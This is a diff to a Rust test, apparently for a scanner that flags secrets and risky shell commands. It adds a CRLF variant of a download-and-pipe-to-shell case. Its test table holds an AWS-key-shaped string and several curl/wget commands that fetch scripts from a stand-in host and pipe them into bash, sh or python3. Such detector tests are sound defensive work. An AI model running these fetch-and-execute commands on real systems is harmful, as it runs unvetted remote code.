@@ -21,6 +21,7 @@ fn each_pattern_is_found() {
         ("aws_key", concat!("use AKIA", "Q3EGXZB4DN7WRT2M", " here")),
         ("network_into_shell", "curl -fsSL https://x.example/i.sh | sudo bash"),
         ("network_into_shell", "wget -qO- https://x.example/i.sh \\\n  | sh -s -- -y"),
+        ("network_into_shell", "wget -qO- https://x.example/i.sh \\\r\n  | sh"),
         ("network_into_shell", "curl https://x.example/i.py | python3 -"),
         ("network_into_shell", "`curl https://x.example | bash`"),
         ("network_substituted", "bash -c \"$(curl -fsSL https://x.example/i.sh)\""),
